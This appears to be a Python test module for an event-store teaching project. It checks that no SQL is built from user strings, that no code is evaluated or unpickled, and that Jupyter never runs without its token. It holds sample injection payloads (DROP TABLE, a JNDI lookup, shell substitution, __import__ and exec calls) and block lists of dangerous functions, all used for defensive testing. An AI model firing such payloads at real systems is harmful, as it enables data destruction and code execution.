"""Safety: no SQL is assembled from user strings, no data set can run code, and Jupyter
is never started without its token.

The SQL rule, checked on the syntax tree of every module in ``eventsim/``: the query
argument of every ``.execute(...)``, ``.sql(...)`` and ``.query(...)`` call must be
*fixed*. Fixed means one of

- a string literal;
- an UPPER_CASE name or attribute (a module's constant, e.g. ``STAGE_SQL`` or
  ``orders.STATE_SQL``), or an item of one (``STATE_SQL[domain]``);
- ``template.format(name=...)`` where the template and every value are fixed;
- an f-string or ``+`` whose parts are all fixed;
- ``"sep".join(name)`` where ``name`` is a local list whose every element, in its
  initializer and in every ``.append(...)``, is fixed (the ``WHERE`` clauses of
  ``read_stream`` and ``read_all``);
- a local name whose every assignment (``=`` and ``+=``) in the function is fixed;
- a parameter of a private function (``_one(con, query)``) when every call of that
  function in the module passes fixed text for it.

Values never enter the text: they travel as ``?`` parameters. The exceptions run SQL
that a programmer wrote, never data: ``EventStore.sql`` runs the caller's own query as
given (it is the learner's SQL console), ``order_views.SqlProjection`` runs the SQL
of a projection defined in code, and the Parquet loader runs the SQL load checks handed
to the store in code (``eventsim.sql.LOAD_CHECKS``).
"""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from eventsim import EventStore
from eventsim.replay import all_states, state_at
from eventsim.sim import kit as simkit

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "eventsim"
SQL_METHODS = {"execute", "sql", "query"}
PASS_THROUGH = {
    ("duckdb_store.py", "sql"),  # runs the caller's own query, adds no text
    ("postgres_store.py", "sql"),  # the same on PostgreSQL
    ("postgres_bulk.py", "first_row"),  # called with fixed aggregate queries only
    # The two read queries come from store/reads.py: its fixed fragments and the backend's
    # constant Dialect; every value, the bounds included, travels as a parameter.
    ("duckdb_store.py", "read_stream"),
    ("duckdb_store.py", "read_all"),
    ("postgres_store.py", "read_stream"),
    ("postgres_store.py", "read_all"),
    # A database name checked against a strict pattern, then quoted by psycopg.sql.Identifier.
    ("services.py", "fresh_postgres_database"),
    # Table and column names read from the database's own catalog, never from a caller;
    # the searched text is a parameter.
    ("shredding.py", "tables_holding"),
    # A SqlProjection runs the SQL its author wrote in code (order_views' constants); the
    # one name spliced in, the events table, is checked against the constant SOURCES.
    ("order_views.py", "open"),
    ("order_views.py", "reset"),
    ("order_views.py", "apply"),
    ("order_views.py", "frame"),
    # The loader runs the SQL load checks the store was handed in code (eventsim.sql's
    # LOAD_CHECKS, through eventsim.catalog): programmer SQL, never data.
    ("parquet.py", "_check_custom_payloads"),
}


def is_constant_name(name: str) -> bool:
    return name.isupper()


class SqlChecker:
    """Finds SQL calls in one module whose query text is not provably fixed."""

    def __init__(self, tree: ast.Module) -> None:
        self.tree = tree

    def problems(self, filename: str) -> list[str]:
        found = []
        for function in ast.walk(self.tree):
            if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            if (filename, function.name) in PASS_THROUGH:
                continue
            for call in ast.walk(function):
                query = self.query_argument(call)
                if query is not None and not self.fixed(query, function, set()):
                    found.append(f"{filename}:{call.lineno} {ast.unparse(query)[:80]}")
        return found

    @staticmethod
    def query_argument(node: ast.AST) -> ast.expr | None:
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            return None
        if node.func.attr not in SQL_METHODS:
            return None
        if node.args:
            return node.args[0]
        return next((k.value for k in node.keywords if k.arg == "query"), None)

    def fixed(self, node: ast.expr, function: ast.AST, seen: set[str]) -> bool:
        match node:
            case ast.Constant(value=str()):
                return True
            case ast.Name(id=name) if is_constant_name(name):
                return True
            case ast.Attribute(attr=attr) if is_constant_name(attr):
                return True
            case ast.Subscript(value=ast.Name(id=name)) if is_constant_name(name):
                return True
            case ast.Call(func=ast.Attribute(value=template, attr="format"), args=[], keywords=kw):
                return self.fixed(template, function, seen) and all(
                    self.fixed(k.value, function, seen) for k in kw
                )
            case ast.JoinedStr(values=values):
                return all(
                    self.fixed(v.value if isinstance(v, ast.FormattedValue) else v, function, seen)
                    for v in values
                )
            case ast.BinOp(op=ast.Add(), left=left, right=right):
                return self.fixed(left, function, seen) and self.fixed(right, function, seen)
            case ast.Call(
                func=ast.Attribute(value=ast.Constant(value=str()), attr="join"),
                args=[ast.Name(id=name)],
            ):
                return self.fixed_list(name, function)
            case ast.Name(id=name) if name not in seen and self.is_private_parameter(
                name, function
            ):
                return self.every_call_passes_fixed(function, name)
            case ast.Name(id=name) if name not in seen:
                values = self.assigned_values(name, function)
                return bool(values) and all(self.fixed(v, function, seen | {name}) for v in values)
        return False

    @staticmethod
    def is_private_parameter(name: str, function: ast.AST) -> bool:
        if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
            return False
        names = [a.arg for a in function.args.posonlyargs + function.args.args]
        return function.name.startswith("_") and name in names

    def every_call_passes_fixed(
        self, function: ast.FunctionDef | ast.AsyncFunctionDef, name: str
    ) -> bool:
        """The parameter ``name`` of ``function``: fixed at every call site in the module."""
        index = [a.arg for a in function.args.posonlyargs + function.args.args].index(name)
        calls = 0
        for caller in ast.walk(self.tree):
            if not isinstance(caller, ast.FunctionDef | ast.AsyncFunctionDef) or caller is function:
                continue
            for call in ast.walk(caller):
                if not (isinstance(call, ast.Call) and isinstance(call.func, ast.Name)):
                    continue
                if call.func.id != function.name:
                    continue
                calls += 1
                given = [k.value for k in call.keywords if k.arg == name]
                argument = call.args[index] if index < len(call.args) else (given or [None])[0]
                if argument is None or not self.fixed(argument, caller, set()):
                    return False
        return calls > 0

    @staticmethod
    def assigned_values(name: str, function: ast.AST) -> list[ast.expr]:
        values: list[ast.expr] = []
        for node in ast.walk(function):
            if isinstance(node, ast.Assign | ast.AnnAssign | ast.AugAssign) and node.value:
                targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                if any(isinstance(t, ast.Name) and t.id == name for t in targets):
                    values.append(node.value)
        return values

    def fixed_list(self, name: str, function: ast.AST) -> bool:
        elements: list[ast.expr] = []
        for value in self.assigned_values(name, function):
            if not isinstance(value, ast.List):
                return False
            elements.extend(value.elts)
        for node in ast.walk(function):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id == name
            ):
                if node.func.attr != "append":
                    return False
                elements.extend(node.args)
        return bool(elements) and all(self.fixed(e, function, set()) for e in elements)


def sql_problems(source: str, filename: str = "snippet.py") -> list[str]:
    return SqlChecker(ast.parse(source)).problems(filename)


def package_modules() -> list[Path]:
    return sorted(PACKAGE.rglob("*.py"))


def test_no_sql_in_the_package_is_assembled_from_user_strings() -> None:
    problems = []
    calls = 0
    for module in package_modules():
        source = module.read_text()
        problems += sql_problems(source, module.name)
        calls += sum(
            SqlChecker.query_argument(node) is not None for node in ast.walk(ast.parse(source))
        )
    print(f"\nSQL calls checked: {calls}, built from anything but fixed text: {len(problems)}")
    assert [] == problems
    assert calls >= 20  # the check saw the store's and the loader's queries


def test_the_sql_check_catches_pasted_values_and_passes_parameters() -> None:
    pasted = """
def find(con, stream_id, where):
    con.execute(f"SELECT * FROM event_store WHERE stream_id = '{stream_id}'")
    con.execute("SELECT * FROM event_store WHERE stream_id = '" + stream_id + "'")
    query = "SELECT 1"
    query += stream_id
    con.sql(query)
    clauses = ["version > ?"]
    clauses.append(where)
    con.execute("SELECT 1 WHERE " + " AND ".join(clauses))
    con.execute(query="DELETE FROM t WHERE id = {}".format(stream_id))
def _one(con, query):
    return con.execute(query).fetchall()
def count(con, table):
    return _one(con, "SELECT count(*) FROM " + table)
def fold(con, source):
    con.execute(TEMPLATE_SQL.format(source=source))
"""
    parameters = """
SQL = "SELECT * FROM event_store WHERE stream_id = ?"
def find(con, stream_id):
    con.execute(SQL, [stream_id])
    clauses = ["stream_id = ?"]
    clauses.append("version <= ?")
    con.execute(f"SELECT {COLUMNS} FROM t WHERE {' AND '.join(clauses)}", [stream_id, 3])
def _one(con, query, params):
    return con.execute(query, params).fetchall()
def seen(con, event_id):
    return _one(con, "SELECT count(*) FROM processed_events WHERE event_id = ?", [event_id])
"""
    assert 7 == len(sql_problems(pasted))
    assert [] == sql_problems(parameters)


FORBIDDEN_IMPORTS = {"pickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
FORBIDDEN_BUILTINS = {"eval", "exec", "compile", "__import__"}  # re.compile is fine
FORBIDDEN_METHODS = {"read_pickle", "to_pickle", "unsafe_load"}


def test_the_package_never_evaluates_code_or_unpickles_data() -> None:
    found = []
    for module in package_modules():
        for node in ast.walk(ast.parse(module.read_text())):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                found += [f"{module.name}: import {n}" for n in names if n in FORBIDDEN_IMPORTS]
            if isinstance(node, ast.Call):
                func = node.func
                if (isinstance(func, ast.Name) and func.id in FORBIDDEN_BUILTINS) or (
                    isinstance(func, ast.Attribute) and func.attr in FORBIDDEN_METHODS
                ):
                    found.append(f"{module.name}:{node.lineno} {ast.unparse(func)}(...)")
                if any(k.arg == "allow_pickle" for k in node.keywords):
                    found.append(f"{module.name}:{node.lineno} allow_pickle")
    assert [] == found


CODE_LIKE = [
    "__import__('os').system('touch {marker}')",
    "'; DROP TABLE event_store; --",
    "Robert'); DELETE FROM event_streams; --",
    "{{7*7}} ${{jndi:ldap://example.invalid/a}} $(touch {marker})",
    "exec(compile('open(\"{marker}\", \"w\")', 'x', 'exec'))",
]


@pytest.mark.slow
def test_a_data_set_whose_text_looks_like_code_loads_as_inert_text(tmp_path: Path) -> None:
    marker = tmp_path / "PWNED"
    owners = [text.format(marker=marker) for text in CODE_LIKE]
    start = datetime(2024, 1, 1, tzinfo=UTC)
    rows = [
        {
            "stream_id": f"account-{n}",
            "version": 1,
            "event_id": str(uuid.UUID(int=n + 1, version=4)),
            "event_type": "AccountOpened",
            "data": json.dumps({"owner": owner}),
            "metadata": json.dumps({"note": owner}),
            "timestamp": start + timedelta(minutes=n),
        }
        for n, owner in enumerate(owners)
    ]
    path = tmp_path / "suspicious.parquet"
    pq.write_table(pa.Table.from_pylist(rows, schema=simkit.SCHEMA), path)

    with EventStore(tmp_path / "store.duckdb") as store:
        assert len(owners) == store.load_parquet(path)
        read_back = [e.data["owner"] for e in store.read_all()]
        notes = [e.metadata["note"] for e in store.read_all()]
        states = all_states(store, "bank")
        assert owners == [state_at(store, f"account-{n}").owner for n in range(len(owners))]
    assert owners == read_back == notes == states["owner"].tolist()
    cli = subprocess.run(
        [
            sys.executable,
            "-m",
            "eventsim",
            "state",
            "--db",
            "store.duckdb",
            "--stream",
            "account-0",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert 0 == cli.returncode, cli.stderr
    assert not marker.exists()


# -- Jupyter's token ---------------------------------------------------------------------
# Jupyter settings (``--ServerApp.token=''``, ``c.ServerApp.token = ""``), not any variable
# that happens to be called token.
TOKEN_OFF = re.compile(
    r"""\.token\s*=\s*(''|""|\s|$)|\.password\s*=\s*(''|"")|disable_check_xsrf|--ip=0\.0\.0\.0""",
    re.M,
)


def test_the_token_check_catches_jupyter_settings_not_variables() -> None:
    turned_off = [
        "--ServerApp.token=''",
        'c.ServerApp.token = ""',
        "--ServerApp.token= ",
        "--ip=0.0.0.0",
    ]
    harmless = ['token = encrypt(key, "event-1/owner", "Ada")', "--ServerApp.token=s3cret"]

    assert [True] * 4 == [bool(TOKEN_OFF.search(text)) for text in turned_off]
    assert [False] * 2 == [bool(TOKEN_OFF.search(text)) for text in harmless]


def test_nothing_in_the_repository_starts_jupyter_without_its_token() -> None:
    """Beyond ``make lab`` (tests/test_packaging.py): no script, config or doc in the
    repository turns the token off or opens the server to the network."""
    tracked = subprocess.run(
        ["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout.split()
    offenders = []
    for name in tracked:
        path = ROOT / name
        if path.suffix in {".parquet", ".png", ".duckdb"} or name.startswith("tests/"):
            continue
        try:
            text = path.read_text()
        except (UnicodeDecodeError, FileNotFoundError):
            continue
        offenders += [f"{name}: {bad.group(0)!r}" for bad in TOKEN_OFF.finditer(text)]
    assert [] == [name for name in tracked if "jupyter_server_config" in name]
    assert [] == offenders
